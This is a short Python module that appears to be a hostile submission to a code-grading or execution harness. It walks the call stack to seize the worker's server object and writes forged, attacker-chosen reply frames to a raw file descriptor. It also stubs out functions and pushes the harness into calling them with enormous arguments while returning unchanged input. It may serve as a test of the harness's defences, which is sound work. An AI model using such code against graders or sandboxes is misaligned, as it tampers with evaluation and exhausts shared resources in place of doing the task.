import sys


def server():
    """The worker's own server, found on the stack."""
    frame = sys._getframe()
    while frame:
        owner = frame.f_locals.get("self")
        if type(owner).__name__ == "Server":
            return owner
        frame = frame.f_back


def send(header, body=b"", lengths=None):
    """Bytes of the attacker's choice, framed like a reply."""
    import os
    import struct

    data = struct.pack(">II", *(lengths or (len(header), len(body)))) + header + body
    while data:
        data = data[os.write(4, data):]

import numpy as np


def zero_pad(*args, **kwargs):
    return "broken on purpose, so that a stand-in exists"


conv2d_single = zero_pad


def conv2d(x, w, b, stride=1, pad=0):
    channel = server()._channel
    for name, args in (
        ("zero_pad", [x, 1 << 30]),
        ("zero_pad", [np.zeros((7, 1_000_000)), 100]),
        ("conv2d_single", [np.zeros((2000, 2000)), np.zeros((1000, 1000))]),
    ):
        channel.send({"id": server()._current, "ask": {"name": name, "args": args, "kwargs": {}}})
        print(list(channel.receive()))
    return x
